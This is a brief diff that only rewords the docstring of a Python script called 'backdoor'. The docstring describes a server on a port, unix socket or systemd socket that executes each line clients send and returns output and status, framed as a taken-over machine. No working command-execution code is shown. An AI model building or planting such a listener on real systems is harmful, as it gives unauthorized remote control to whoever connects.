@@ -1,7 +1,7 @@
 #!/usr/bin/python3
-"""backdoor [PORT | PATH]: runs what its clients send it, a line each; they read what that said, and how it ended.
+"""backdoor [PORT | PATH]: run each line its clients send, and answer with output and status.
 
-A server that has been taken over. It listens on a port, a unix socket, or what systemd passed it.
+A server that was taken over. It listens on a port, a unix socket, or what systemd passed it.
 """
 
 import os
